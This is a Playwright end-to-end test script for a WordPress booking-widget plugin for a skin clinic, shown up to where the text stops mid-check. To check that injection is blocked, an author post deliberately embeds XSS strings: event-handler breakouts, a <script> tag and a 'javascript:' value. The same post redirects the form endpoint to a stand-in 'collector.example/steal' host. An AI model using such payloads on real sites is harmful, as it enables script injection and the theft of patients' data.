#!/usr/bin/env node
/**
 * `npm run test:wordpress`: the WordPress plugin end to end. Starts a real WordPress on 127.0.0.1
 * (Debian's packages, installed when missing; see wp.mjs), installs and activates the built
 * dist/mn-widgets-wordpress.zip, creates pages as an administrator and posts as an author, and
 * checks in headless Chromium and over HTTP: every widget renders and works, shortcodes and
 * blocks, the author's shortcodes, settings → <mn-clinic>, injection attempts inert, the script
 * once and only where needed, booking requests stored exactly once across retries, malformed,
 * oversized, honeypot and too-fast requests refused with a clear error, rate limit, who may list
 * requests, the admin screen, email, and uninstall (keep and delete). Closes with `N passed, M failed`.
 */
import { randomUUID } from 'node:crypto';
import { copyFileSync, existsSync, readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { unzipSync } from 'fflate';
import { chromium } from 'playwright-core';
import { chromiumPath } from '../scripts/chromium.mjs';
import { ensurePackages, startWordPress } from './wp.mjs';

const root = join(dirname(fileURLToPath(import.meta.url)), '../..');
const dist = process.env.MNW_DIST ?? join(root, 'dist'); // MNW_DIST: test another build's output
const BUILT_ZIP = join(dist, 'mn-widgets-wordpress.zip');
let ZIP = BUILT_ZIP; // a copy in the test's folder once WordPress is up (a rebuild may replace dist/ meanwhile)
const PLUGIN = 'mn-widgets/mn-widgets.php';
const t0 = Date.now();
const log = (m) => console.log(`[wp ${((Date.now() - t0) / 1000).toFixed(1)}s] ${m}`);

let passed = 0;
let failed = 0;
async function check(name, fn) {
  try {
    await fn();
    passed++;
    console.log(`ok - ${name}`);
  } catch (e) {
    failed++;
    console.log(
      `not ok - ${name}\n    ${String(e?.stack ?? e)
        .split('\n')
        .slice(0, 4)
        .join('\n    ')}`,
    );
  }
}
function assert(cond, msg) {
  if (!cond) throw new Error(msg);
}
const eq = (a, b, msg) =>
  assert(JSON.stringify(a) === JSON.stringify(b), `${msg}: expected ${JSON.stringify(b)}, got ${JSON.stringify(a)}`);

if (!existsSync(BUILT_ZIP)) {
  console.error('dist/mn-widgets-wordpress.zip is missing: run `npm run build` first.');
  process.exit(1);
}
const elements = JSON.parse(readFileSync(join(dist, 'custom-elements.json'), 'utf8'))
  .modules.flatMap((m) => m.declarations ?? [])
  .filter((d) => d.customElement && d.tagName);
// What the build put in the zip: each element's attributes and paste-in script.
const generated = JSON.parse(new TextDecoder().decode(unzipSync(readFileSync(BUILT_ZIP))['mn-widgets/generated/elements.json']));
const widgets = elements.map((d) => d.tagName).filter((t) => t !== 'mn-clinic' && generated[t]);
/** The scripts a page with these widgets must load, each once, in the head. */
const scriptsFor = (tags) => [...new Set(tags.map((t) => generated[t].script))].sort().map((f) => `${f}@head`);
const shortcode = (tag) => tag.replace(/-/g, '_');
const blockName = (tag) => `mn-widgets/${tag.replace(/^mn-/, '')}`;
log(`widgets in custom-elements.json: ${widgets.join(', ') || '(none)'}`);

try {
  ensurePackages(log);
} catch (e) {
  console.error(e.message);
  console.log('0 passed, 1 failed');
  process.exit(1);
}

let wp;
let browser;
let ok = false;
const cleanup = async () => {
  await browser?.close().catch(() => {});
  await wp?.stop({ keep: !ok });
};
// A browser promise left waiting by a failed check rejects when the page closes: not a crash.
process.on('unhandledRejection', (e) => console.log(`# (ignored late rejection: ${String(e?.message ?? e).split('\n')[0]})`));
for (const sig of ['SIGINT', 'SIGTERM']) {
  process.on(sig, async () => {
    await cleanup();
    process.exit(130);
  });
}

try {
  wp = await startWordPress();
  log(`WordPress up at ${wp.url} (folder ${wp.dir})`);
  ZIP = join(wp.dir, 'mn-widgets-wordpress.zip');
  for (let i = 0; i < 60 && !existsSync(BUILT_ZIP); i++) await new Promise((r) => setTimeout(r, 500)); // a build in progress
  copyFileSync(BUILT_ZIP, ZIP);
  const { url, cli } = wp;
  const REST = `${url}/wp-json/mn-widgets/v1/requests`;

  // Users, permalinks, plugin from the zip.
  cli('user', 'author1', 'authorpass', 'author');
  cli('user', 'editor_nf', 'editorpass', 'editor', 'unfiltered_html');
  cli('permalinks', '/%postname%/');
  const auth = {};
  for (const u of ['admin', 'author1', 'editor_nf']) auth[u] = 'Basic ' + Buffer.from(`${u}:${cli('apppass', u)}`).toString('base64');

  await check('the built zip installs and activates', () => {
    eq(cli('install-zip', ZIP), PLUGIN, 'installed plugin file');
    eq(cli('activate', PLUGIN), 'ok', 'activate');
    eq(JSON.parse(cli('sql-scalar', "SHOW TABLES LIKE 'wp_mn_widgets_requests'")), 'wp_mn_widgets_requests', 'requests table');
  });

  const api = async (path, user, body, method = 'POST') => {
    const res = await fetch(`${url}/wp-json/wp/v2/${path}`, {
      method,
      headers: { Authorization: auth[user], 'Content-Type': 'application/json' },
      body: body && JSON.stringify(body),
    });
    const json = await res.json();
    assert(res.ok, `${method} ${path} as ${user}: ${res.status} ${JSON.stringify(json).slice(0, 300)}`);
    return json;
  };

  // Settings through the real settings page, as the administrator.
  browser = await chromium.launch({
    executablePath: chromiumPath() ?? '/usr/bin/chromium',
    args: [
      '--no-sandbox',
      '--disable-gpu',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-sync',
      '--no-first-run',
    ],
  });
  const login = async (user, pass) => {
    const ctx = await browser.newContext();
    const page = await ctx.newPage();
    await page.goto(`${url}/wp-login.php`);
    await page.fill('#user_login', user);
    await page.fill('#user_pass', pass);
    await Promise.all([page.waitForNavigation(), page.click('#wp-submit')]);
    return { ctx, page };
  };
  const admin = await login('admin', 'adminpass');
  const privacy = await api('pages', 'admin', { title: 'Privacy', content: 'We keep your request private.', status: 'publish' });

  await check('settings page saves the clinic details', async () => {
    const p = admin.page;
    await p.goto(`${url}/wp-admin/admin.php?page=mn-widgets-settings`);
    await p.fill('#mnw_name', 'Glow Skin Studio');
    await p.fill('#mnw_phone', '+1 555 0100');
    await p.fill('#mnw_email', 'clinic@example.com');
    await p.selectOption('#mnw_timezone', 'America/New_York');
    await p.fill('#mnw_locale', 'en-US');
    await p.fill('#mnw_accent', '#7a4cc2');
    await p.selectOption('#mnw_privacy_page', String(privacy.id));
    await p.fill('#mnw_hours', 'Mo-Fr 09:00-18:00; Sa 10:00-14:00');
    await p.fill('#mnw_services', 'Consultation | 30 | consultation\nMicroneedling | 60\nMicroneedling with PRP | 75');
    await p.fill('#mnw_spacing', '21');
    await p.fill('#mnw_rate_limit', '40');
    await Promise.all([p.waitForNavigation(), p.click('#submit')]);
    const s = JSON.parse(cli('option-get', 'mn_widgets_settings'));
    eq(
      [s.name, s.phone, s.email, s.timezone, s.locale, s.accent, s.privacy_page, s.spacing],
      ['Glow Skin Studio', '+1 555 0100', 'clinic@example.com', 'America/New_York', 'en-US', '#7a4cc2', privacy.id, '21'],
      'saved settings',
    );
  });

  await check('settings page refuses a bad phone and colour with a message', async () => {
    const p = admin.page;
    await p.goto(`${url}/wp-admin/admin.php?page=mn-widgets-settings`);
    await p.fill('#mnw_phone', 'javascript:alert(1)');
    await Promise.all([p.waitForNavigation(), p.click('#submit')]);
    assert((await p.content()).includes('The phone was not saved'), 'no message for a bad phone');
    await p.fill('#mnw_phone', '+1 555 0100');
    await Promise.all([p.waitForNavigation(), p.click('#submit')]);
    eq(JSON.parse(cli('option-get', 'mn_widgets_settings')).phone, '+1 555 0100', 'phone restored');
  });

  // Pages: every widget by shortcode (administrator), by block (editor without unfiltered_html),
  // and by shortcode plus injection attempts (author).
  const treatedAt = new Date(Date.now() - 30 * 3600_000).toISOString().slice(0, 16);
  const extra = { 'mn-aftercare-timeline': ` treated-at="${treatedAt}"` };
  const shortcodes = widgets.map((t) => `[${shortcode(t)}${extra[t] ?? ''}]`).join('\n\n');
  const adminPage = await api('pages', 'admin', {
    title: 'All widgets',
    content: `<p>Before.</p>\n\n${shortcodes}\n\n<p>After.</p>`,
    status: 'publish',
  });
  const blocks = widgets
    .map(
      (t) =>
        `<!-- wp:${blockName(t)} ${JSON.stringify(t === 'mn-aftercare-timeline' ? { 'treated-at': treatedAt } : { 'clinic-name': 'Block Clinic' })} /-->`,
    )
    .join('\n\n');
  const blockPage = await api('pages', 'editor_nf', { title: 'Blocks', content: blocks, status: 'publish' });
  const INJECT = `x" onmouseover="window.__pwned=1`;
  const authorPost = await api('posts', 'author1', {
    title: 'Author widgets',
    content: [
      shortcodes,
      `[mn_booking_form clinic-name='${INJECT}' onclick="window.__pwned=2" endpoint="https://collector.example/steal"]`,
      `<mn-booking-form clinic-name="Raw element" onclick="window.__pwned=4" endpoint="https://collector.example/raw"></mn-booking-form>`,
      `<script>window.__pwned=5</script>`,
    ].join('\n\n'),
    status: 'publish',
  });
  const urlPage = await api('pages', 'admin', {
    title: 'Admin URL',
    content:
      '[mn_aftercare_timeline booking-url="https://clinic.example/book" treated-at="2026-11-01"]\n\n[mn_booking_form require-check persist="none"]\n\n[mn_contraindication_check share-findings="false" layout="list"]',
    status: 'publish',
  });
  const onePage = await api('pages', 'admin', {
    title: 'One widget',
    content: `[mn_aftercare_timeline treated-at="${treatedAt}"]`,
    status: 'publish',
  });
  const plainPage = await api('pages', 'admin', { title: 'No widgets', content: '<p>Nothing here.</p>', status: 'publish' });

  const visit = async (link, ctx) => {
    const context = ctx ?? (await browser.newContext());
    const page = await context.newPage();
    const errors = [];
    page.on('pageerror', (e) => errors.push(String(e)));
    page.on('console', (m) => m.type() === 'error' && errors.push(m.text()));
    await page.goto(link, { waitUntil: 'load' });
    return { page, errors, close: () => (ctx ? page.close() : context.close()) };
  };
  /** What the page shows: each widget's state, from its shadow root. */
  const widgetState = (page) =>
    page.evaluate((tags) => {
      const out = {};
      for (const tag of tags) {
        out[tag] = [...document.querySelectorAll(tag)].map((el) => ({
          defined: !!customElements.get(tag),
          base: !!el.shadowRoot?.querySelector('[part="base"]'),
          notices: [...(el.shadowRoot?.querySelectorAll('[part="notice"]') ?? [])].map((n) => n.textContent.trim()),
          text: (el.shadowRoot?.textContent ?? '').replace(/\s+/g, ' ').trim().length,
          inClinic: !!el.closest('mn-clinic'),
          attrs: Object.fromEntries([...el.attributes].map((a) => [a.name, a.value])),
        }));
      }
      return out;
    }, widgets);
  const scripts = (page) =>
    page.evaluate(() =>
      [...document.scripts]
        .map((s) => [s.src.match(/\/plugins\/mn-widgets\/assets\/([^/?]+\.js)/)?.[1], s.closest('head') ? 'head' : 'body'])
        .filter(([f]) => f)
        .map(([f, where]) => `${f}@${where}`)
        .sort(),
    );

  await check('administrator page: every widget renders by shortcode, inside one <mn-clinic> with the settings', async () => {
    assert(widgets.length > 0, 'no widgets in custom-elements.json');
    const v = await visit(adminPage.link);
    await v.page.waitForFunction((tags) => tags.every((t) => customElements.get(t)), widgets);
    const state = await widgetState(v.page);
    for (const tag of widgets) {
      eq(state[tag].length, 1, `${tag} count`);
      const w = state[tag][0];
      assert(w.defined && w.base && w.text > 20, `${tag} did not render: ${JSON.stringify(w)}`);
      eq(w.notices, [], `${tag} setup notices`);
      assert(w.inClinic, `${tag} is not inside <mn-clinic>`);
    }
    const clinics = await v.page.evaluate(() =>
      [...document.querySelectorAll('mn-clinic')].map((c) => Object.fromEntries([...c.attributes].map((a) => [a.name, a.value]))),
    );
    eq(clinics.length, 1, 'one <mn-clinic> for the whole content');
    const c = clinics[0];
    eq(
      [c.name, c.phone, c.email, c.timezone, c.locale, c.accent],
      ['Glow Skin Studio', '+1 555 0100', 'clinic@example.com', 'America/New_York', 'en-US', '#7a4cc2'],
      'clinic attributes',
    );
    eq(c['privacy-url'], privacy.link, 'privacy-url');
    eq(c.hours, 'Mo-Fr 09:00-18:00; Sa 10:00-14:00', 'hours');
    eq(c.endpoint, REST, 'endpoint');
    eq(await scripts(v.page), scriptsFor(widgets), "each widget's script, once, in the head");
    eq(v.errors, [], 'page errors');
    await v.close();
  });

  await check('booking settings reach the booking form (services, spacing-days)', async () => {
    if (!widgets.includes('mn-booking-form')) throw new Error('no <mn-booking-form> yet');
    const v = await visit(adminPage.link);
    const a = (await widgetState(v.page))['mn-booking-form'][0].attrs;
    eq(a['spacing-days'], '21', 'spacing-days');
    eq(
      JSON.parse(a.services).map((s) => s.name),
      ['Consultation', 'Microneedling', 'Microneedling with PRP'],
      'services',
    );
    eq(JSON.parse(a.services)[0].treatment, false, 'consultation is not a treatment');
    const options = await v.page.locator('mn-booking-form select[name="service"] option').allTextContents();
    assert(
      options.some((o) => o.includes('Microneedling with PRP')),
      `service options: ${options}`,
    );
    await v.close();
  });

  await check('blocks (editor without unfiltered_html) render through the same PHP', async () => {
    const v = await visit(blockPage.link);
    await v.page.waitForFunction((tags) => tags.every((t) => customElements.get(t)), widgets);
    const state = await widgetState(v.page);
    for (const tag of widgets) {
      eq(state[tag].length, 1, `${tag} count`);
      assert(state[tag][0].base && state[tag][0].text > 20, `${tag} did not render`);
      eq(state[tag][0].notices, [], `${tag} notices`);
    }
    eq(await scripts(v.page), scriptsFor(widgets), "each widget's script, once");
    eq(v.errors, [], 'page errors');
    await v.close();
  });

  await check("author's shortcodes render; injection attempts are inert", async () => {
    const v = await visit(authorPost.link);
    await v.page.waitForFunction((tags) => tags.every((t) => customElements.get(t)), widgets);
    await v.page.mouse.move(10, 10);
    for (const el of await v.page.locator('mn-booking-form').all()) await el.hover().catch(() => {});
    const state = await widgetState(v.page);
    for (const tag of widgets)
      assert(state[tag].length >= 1 && state[tag].every((w) => w.base && w.text > 20), `${tag} did not render for the author`);
    const forms = state['mn-booking-form'] ?? [];
    const injected = forms.find((f) => f.attrs['clinic-name'] === INJECT);
    assert(injected, `the injected value is not kept as plain text: ${JSON.stringify(forms.map((f) => f.attrs))}`);
    assert(!('onmouseover' in injected.attrs) && !('onclick' in injected.attrs), 'event handler attribute survived');
    assert(!('endpoint' in injected.attrs), `an author set the endpoint: ${injected.attrs.endpoint}`);
    const raw = forms.find((f) => f.attrs['clinic-name'] === 'Raw element');
    assert(raw, 'a raw <mn-booking-form> written by the author was stripped');
    assert(!('onclick' in raw.attrs), 'onclick survived kses');
    assert(!('endpoint' in raw.attrs), 'an author set the endpoint in HTML');
    eq(await v.page.evaluate(() => window.__pwned), undefined, 'window.__pwned');
    eq(await scripts(v.page), scriptsFor(widgets), "each widget's script, once");
    await v.close();
  });

  await check('an administrator may set URL attributes (authors may not, above); boolean attributes', async () => {
    const v = await visit(urlPage.link);
    const w = (await widgetState(v.page))['mn-aftercare-timeline'];
    eq(w?.[0]?.attrs['booking-url'], 'https://clinic.example/book', 'booking-url');
    const st = await widgetState(v.page);
    if (st['mn-booking-form'])
      eq(
        [st['mn-booking-form'][0].attrs['require-check'], st['mn-booking-form'][0].attrs.persist],
        ['', 'none'],
        'boolean and string attributes',
      );
    if (st['mn-contraindication-check'])
      eq('share-findings' in st['mn-contraindication-check'][0].attrs, false, 'share-findings="false" leaves it unset');
    await v.close();
  });

  await check("a page with one widget loads only that widget's script", async () => {
    const v = await visit(onePage.link);
    eq(await scripts(v.page), scriptsFor(['mn-aftercare-timeline']), 'scripts');
    await v.page.waitForFunction(() => document.querySelector('mn-aftercare-timeline')?.shadowRoot?.querySelector('[part="base"]'));
    eq(v.errors, [], 'page errors');
    await v.close();
  });

  await check('a page without widgets does not load the script', async () => {
    const v = await visit(plainPage.link);
    eq(await scripts(v.page), [], 'scripts');
    await v.close();
  });

  // Booking: the real form in the browser posts to the plugin's REST route.
  const count = (id) => Number(JSON.parse(cli('sql-scalar', `SELECT COUNT(*) FROM wp_mn_widgets_requests WHERE request_id = '${id}'`)));
  const total = () => Number(JSON.parse(cli('sql-scalar', 'SELECT COUNT(*) FROM wp_mn_widgets_requests')));
  const mails = () => JSON.parse(cli('option-get', 'mnw_test_mails')) ?? [];

  /** Fills the booking form as a patient would; resolves to the preferred date chosen. */
  const fillBooking = async (form) => {
    await form.locator('input[name="name"]').fill('Ada Patient');
    await form.locator('input[name="email"]').fill('ada@example.com');
    await form.locator('select[name="service"]').selectOption('microneedling');
    await form.locator('input[name="areas"]').first().check();
    const date = await form.locator('input[name="date0"]').evaluate((i) => {
      const d = new Date(`${i.min || new Date().toISOString().slice(0, 10)}T12:00:00Z`);
      d.setUTCDate(d.getUTCDate() + 7);
      while (d.getUTCDay() === 0 || d.getUTCDay() === 6) d.setUTCDate(d.getUTCDate() + 1);
      return d.toISOString().slice(0, 10);
    });
    await form.locator('input[name="date0"]').fill(date);
    await form.locator('input[name="consent"]').check();
    return date;
  };
  const send = (form) => form.locator('form button:not([type="button"])').last().click();
  const watchPosts = (p) => {
    const posts = [];
    p.on('request', (r) => r.method() === 'POST' && r.url().startsWith(REST) && posts.push(r.headers()['idempotency-key']));
    return posts;
  };

  await check("booking form in the browser: a too-fast send shows the server's error and stores nothing", async () => {
    if (!widgets.includes('mn-booking-form')) throw new Error('no <mn-booking-form> yet');
    const settings = JSON.parse(cli('option-get', 'mn_widgets_settings'));
    cli('option-set', 'mn_widgets_settings', JSON.stringify({ ...settings, min_fill_ms: 60000 })); // any fill is too fast
    const v = await visit(adminPage.link);
    const form = v.page.locator('mn-booking-form');
    const posts = watchPosts(v.page);
    const before = total();
    let shown;
    try {
      const failedEvent = v.page.evaluate(
        () => new Promise((resolve) => document.addEventListener('mn-booking-error', () => resolve(true), { once: true })),
      );
      await fillBooking(form);
      await send(form);
      await Promise.race([failedEvent, v.page.waitForTimeout(15000)]);
      shown = await form.evaluate((el) => el.shadowRoot.textContent);
    } finally {
      cli('option-set', 'mn_widgets_settings', JSON.stringify(settings));
    }
    assert(/sent too quickly/.test(shown), "the server's message is not shown");
    eq(posts.length, 1, 'POSTs (a 400 is not retried)');
    eq(total(), before, 'rows added');
    await v.close();
  });

  await check('booking form in the browser: the request reaches the database once, and the clinic is emailed', async () => {
    if (!widgets.includes('mn-booking-form')) throw new Error('no <mn-booking-form> yet');
    const v = await visit(adminPage.link);
    const p = v.page;
    const loaded = Date.now();
    const form = p.locator('mn-booking-form');
    const date = await fillBooking(form);
    await p.waitForTimeout(Math.max(0, 3500 - (Date.now() - loaded))); // a person takes longer than the 3 s minimum
    const before = total();
    const posts = watchPosts(p);
    const success = p.evaluate(
      () => new Promise((resolve) => document.addEventListener('mn-booking-success', (e) => resolve(e.type), { once: true })),
    );
    await send(form);
    const timeout = p.waitForTimeout(20000).then(async () => {
      const shown = await form.evaluate((el) => el.shadowRoot.textContent.replace(/\s+/g, ' ').trim());
      throw new Error(`no mn-booking-success within 20 s; POSTs ${posts.length}; the form shows: ${shown.slice(0, 1500)}`);
    });
    await Promise.race([success, timeout]);
    eq(total(), before + 1, 'rows added');
    eq(posts.length, 1, 'POSTs');
    eq(count(posts[0]), 1, 'rows for its id');
    const stored = JSON.parse(JSON.parse(cli('sql-scalar', `SELECT payload FROM wp_mn_widgets_requests WHERE request_id = '${posts[0]}'`)));
    eq(
      [stored.contact.name, stored.contact.email, stored.preferences[0].date, stored.service.id],
      ['Ada Patient', 'ada@example.com', date, 'microneedling'],
      'stored values',
    );
    eq(stored.consent.policyUrl, privacy.link, 'consent.policyUrl');
    const m = mails().filter((x) => x.message.includes('Ada Patient'));
    eq(m.length, 1, 'emails for it');
    eq(m[0].to, 'clinic@example.com', 'emailed to');
    eq(v.errors, [], 'page errors');
    await v.close();
  });

  /** Answers the safety check as a patient with nothing to report: "No" to every question, age 34. */
  const walkCheck = async (page) => {
    const el = page.locator('mn-contraindication-check');
    for (let i = 0; i < 80; i++) {
      if (await el.locator('[part="result"]').count()) return;
      const todo = await el.evaluate((x) => {
        const r = [...x.shadowRoot.querySelectorAll('form input[type="radio"]')];
        const names = [...new Set(r.map((o) => o.name))].filter((n) => !r.some((o) => o.name === n && o.checked));
        return names.map((n) => {
          const opts = r.filter((o) => o.name === n);
          const no = opts.findIndex((o) => o.parentElement.textContent.trim() === 'No');
          return r.indexOf(opts[no < 0 ? 0 : no]);
        });
      });
      for (const idx of todo) await el.locator('form input[type="radio"]').nth(idx).check();
      for (const n of await el.locator('form input[type="number"]').all()) if (!(await n.inputValue())) await n.fill('34');
      const longAgo = new Date(Date.now() - 2 * 365 * 86400_000).toISOString().slice(0, 10);
      for (const d of await el.locator('form input[type="date"]').all()) if (!(await d.inputValue())) await d.fill(longAgo);
      await el.locator('form button:not([type="button"])').last().click();
    }
    throw new Error('no result after 80 steps');
  };

  await check('safety check works, and its outcome level (never answers) travels with the booking request', async () => {
    for (const t of ['mn-contraindication-check', 'mn-booking-form']) if (!widgets.includes(t)) throw new Error(`no <${t}> yet`);
    const v = await visit(adminPage.link);
    const p = v.page;
    const loaded = Date.now();
    const outcome = p.evaluate(
      () => new Promise((resolve) => document.addEventListener('mn-screening-complete', (e) => resolve(e.detail), { once: true })),
    );
    await walkCheck(p);
    const detail = await outcome;
    assert(['clear', 'advice'].includes(detail.level), `outcome for a patient with nothing to report: ${JSON.stringify(detail)}`);
    const headline = await p.locator('mn-contraindication-check #result').textContent();
    assert(headline.trim().length > 5, 'result headline');
    const form = p.locator('mn-booking-form');
    await fillBooking(form);
    await form.locator('input[name="name"]').fill('Screened Patient');
    await p.waitForTimeout(Math.max(0, 3500 - (Date.now() - loaded)));
    const posts = watchPosts(p);
    const success = p.evaluate(
      () => new Promise((resolve) => document.addEventListener('mn-booking-success', () => resolve(true), { once: true })),
    );
    await send(form);
    await Promise.race([success, p.waitForTimeout(20000).then(() => Promise.reject(new Error('no mn-booking-success')))]);
    const stored = JSON.parse(JSON.parse(cli('sql-scalar', `SELECT payload FROM wp_mn_widgets_requests WHERE request_id = '${posts[0]}'`)));
    eq(stored.screening?.level, detail.level, 'stored screening level');
    eq(
      Object.keys(stored.screening).filter((k) => !['level', 'review'].includes(k)),
      [],
      'other screening keys',
    );
    eq(v.errors, [], 'page errors');
    await v.close();
  });

  await check('aftercare timeline works: the current phase is marked and the calendar file downloads', async () => {
    if (!widgets.includes('mn-aftercare-timeline')) throw new Error('no <mn-aftercare-timeline> yet');
    const v = await visit(adminPage.link, await browser.newContext({ acceptDownloads: true }));
    const el = v.page.locator('mn-aftercare-timeline');
    await el.locator('[aria-current="step"]').first().waitFor({ timeout: 10000 });
    eq(await el.locator('[aria-current="step"]').count(), 1, 'current phases');
    const button = el.locator('button', { hasText: /calendar/i }).first();
    if (await button.count()) {
      const [download] = await Promise.all([v.page.waitForEvent('download', { timeout: 10000 }), button.click()]);
      const file = await download.path();
      assert(readFileSync(file, 'utf8').startsWith('BEGIN:VCALENDAR'), 'not an iCalendar file');
    }
    eq(v.errors, [], 'page errors');
    await v.page.context().close();
  });

  await check('block editor: the blocks are registered from custom-elements.json and insert without errors', async () => {
    const p = await admin.ctx.newPage();
    const errors = [];
    p.on('pageerror', (e) => errors.push(String(e)));
    await p.goto(`${url}/wp-admin/post-new.php?post_type=page`);
    await p.waitForFunction(() => window.wp?.blocks?.getBlockTypes?.().some((b) => b.name.startsWith('mn-widgets/')), null, {
      timeout: 30000,
    });
    const names = await p.evaluate(() =>
      wp.blocks
        .getBlockTypes()
        .filter((b) => b.name.startsWith('mn-widgets/'))
        .map((b) => b.name)
        .sort(),
    );
    eq(names, widgets.map(blockName).sort(), 'registered blocks');
    const attrs = await p.evaluate((n) => Object.keys(wp.blocks.getBlockType(n).attributes), blockName(widgets[0]));
    const manifest = elements.find((d) => d.tagName === widgets[0]).attributes.map((a) => a.name);
    for (const a of manifest) assert(attrs.includes(a), `block attribute ${a} missing`);
    await p.evaluate((ns) => ns.forEach((n) => wp.data.dispatch('core/block-editor').insertBlocks(wp.blocks.createBlock(n))), names);
    await p.waitForTimeout(500);
    const placeholders = await p
      .locator('.components-placeholder__label')
      .allTextContents()
      .catch(() => []);
    for (const t of widgets)
      assert(
        placeholders.some((x) => x.includes(`<${t}>`)),
        `no placeholder for <${t}> in the editor: ${placeholders}`,
      );
    eq(errors, [], 'editor errors');
    await p.close();
  });

  // The route itself.
  const payload = (over = {}) => ({
    version: 1,
    id: randomUUID(),
    createdAt: new Date().toISOString(),
    contact: { name: 'Retry Test', email: 'retry@example.com', phone: '+1 555 0199', preferred: 'email' },
    service: { id: 'microneedling', name: 'Microneedling', durationMinutes: 60 },
    areas: ['face'],
    firstVisit: true,
    preferences: [{ date: '2026-12-10', timeOfDay: 'morning' }],
    consent: { given: true, policyUrl: privacy.link, at: new Date().toISOString() },
    screening: { level: 'clear' },
    locale: 'en-US',
    timezone: 'America/New_York',
    meta: { fillMs: 9000, trap: '' },
    ...over,
  });
  const post = async (body, headers = {}) => {
    const res = await fetch(REST, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', ...(body?.id ? { 'Idempotency-Key': body.id } : {}), ...headers },
      body: typeof body === 'string' ? body : JSON.stringify(body),
    });
    return { status: res.status, headers: res.headers, json: await res.json().catch(() => null) };
  };

  await check('retries with the same Idempotency-Key store one request and answer the same', async () => {
    const p = payload();
    const before = total();
    const first = await post(p);
    eq(first.status, 201, 'first status');
    eq(first.json, { id: p.id, status: 'received' }, 'first answer');
    const again = [await post(p), ...(await Promise.all([1, 2, 3, 4].map(() => post({ ...p, meta: { ...p.meta, fillMs: 12000 } }))))];
    for (const r of again) {
      eq([r.status, r.json], [201, first.json], 'repeat answer');
      eq(r.headers.get('idempotent-replayed'), 'true', 'replay header');
    }
    eq(count(p.id), 1, 'rows for the id');
    eq(total(), before + 1, 'rows added');
    eq(mails().filter((m) => m.message.includes('Retry Test')).length, 1, 'emails');
  });

  await check('concurrent first attempts with one key store one request', async () => {
    const p = payload({ contact: { name: 'Race Test', email: 'race@example.com', preferred: 'phone', phone: '+1 555 0123' } });
    const rs = await Promise.all([1, 2, 3, 4].map(() => post(p)));
    for (const r of rs) eq([r.status, r.json], [201, { id: p.id, status: 'received' }], 'answer');
    eq(count(p.id), 1, 'rows');
  });

  await check('malformed, oversized and undocumented requests are refused with a clear error and not stored', async () => {
    const before = total();
    const bad = await post('{"version": 1,');
    eq(bad.status, 400, 'invalid JSON status');
    assert(/JSON/i.test(bad.json?.error ?? ''), `invalid JSON error: ${JSON.stringify(bad.json)}`);
    const missing = payload();
    delete missing.contact;
    const r1 = await post(missing);
    eq([r1.status, r1.json?.fields?.contact], [400, 'is required'], 'missing contact');
    assert(r1.json.error, 'error text');
    const r2 = await post(payload({ answers: { pregnancy: true } }));
    eq([r2.status, r2.json?.fields?.answers], [400, 'is not part of the booking request'], 'health answers refused');
    const r3 = await post(payload({ screening: { level: 'clear', findings: ['isotretinoin'] } }));
    eq([r3.status, r3.json?.fields?.['screening.findings']], [400, 'is not part of the booking request'], 'findings refused');
    const r4 = await post(payload({ contact: { name: 'X', email: 'not-an-email', preferred: 'email' } }));
    eq([r4.status, r4.json?.fields?.['contact.email']], [400, 'is not a valid email address'], 'bad email');
    const r5 = await post(payload({ version: 2 }));
    eq([r5.status, r5.json?.fields?.version], [400, 'must be 1'], 'version 2');
    const r6 = await post(payload({ preferences: [{ date: 'tomorrow', timeOfDay: 'noon' }] }));
    eq(r6.status, 400, 'bad preference');
    assert(r6.json.fields['preferences.0.timeOfDay'], `time of day: ${JSON.stringify(r6.json)}`);
    const big = await post(payload({ message: 'x'.repeat(40000) }));
    eq(big.status, 413, 'oversized status');
    assert(/too large/.test(big.json?.error ?? ''), `oversized error: ${JSON.stringify(big.json)}`);
    const long = await post(payload({ message: 'y'.repeat(5000) }));
    eq([long.status, long.json?.fields?.message], [400, 'is too long'], 'long message');
    const form = await fetch(REST, { method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: 'a=b' });
    eq(form.status, 415, 'form-encoded status');
    const p = payload();
    const mismatch = await post(p, { 'Idempotency-Key': randomUUID() });
    eq(mismatch.status, 400, 'key mismatch');
    eq(total(), before, 'nothing stored');
  });

  await check('honeypot and too-fast submissions are refused and not stored', async () => {
    const before = total();
    const trap = await post(payload({ meta: { fillMs: 9000, trap: 'http://spam.example' } }));
    eq(trap.status, 400, 'honeypot status');
    const fast = await post(payload({ meta: { fillMs: 400, trap: '' } }));
    eq(fast.status, 400, 'too fast status');
    assert(/too quickly/.test(fast.json?.error ?? ''), `too fast error: ${JSON.stringify(fast.json)}`);
    eq(total(), before, 'nothing stored');
  });

  await check('only managers can list requests (REST)', async () => {
    const anon = await fetch(REST);
    eq(anon.status, 401, 'anonymous');
    assert((await anon.json()).error, 'error text');
    const author = await fetch(REST, { headers: { Authorization: auth.author1 } });
    eq(author.status, 403, 'author');
    const editor = await fetch(REST, { headers: { Authorization: auth.editor_nf } });
    eq(editor.status, 403, 'editor');
    const adm = await fetch(REST, { headers: { Authorization: auth.admin } });
    eq(adm.status, 200, 'administrator');
    const list = await adm.json();
    assert(list.length === total() && list.every((r) => r.status === 'new'), `list: ${list.length}`);
  });

  await check('admin screen lists requests with status; status can be changed; an author cannot see it', async () => {
    const p = admin.page;
    await p.goto(`${url}/wp-admin/admin.php?page=mn-widgets`);
    const rows = p.locator('table.mnw-requests tbody tr');
    eq(await rows.count(), total(), 'rows on screen');
    const race = rows.filter({ hasText: 'Race Test' });
    await race.locator('select[name="status"]').selectOption('contacted');
    await Promise.all([p.waitForNavigation(), race.getByRole('button', { name: 'Save' }).click()]);
    eq(
      JSON.parse(cli('sql-scalar', "SELECT status FROM wp_mn_widgets_requests WHERE contact_name = 'Race Test'")),
      'contacted',
      'status saved',
    );
    await p.locator('table.mnw-requests a').first().click();
    assert(await p.locator('table.mnw-request').isVisible(), 'detail view');
    const author = await login('author1', 'authorpass');
    const res = await author.page.goto(`${url}/wp-admin/admin.php?page=mn-widgets`);
    eq(res.status(), 403, 'author status');
    assert(!(await author.page.content()).includes('Race Test'), 'author sees a request');
    await author.ctx.close();
  });

  await check("privacy tools: export and erase a patient's requests by email", () => {
    const exported = JSON.parse(cli('privacy', 'export', 'race@example.com'));
    eq(exported.data.length, 1, 'exported requests');
    assert(
      exported.data[0].data.some((d) => d.name === 'contact.name' && d.value === 'Race Test'),
      'exported fields',
    );
    const before = total();
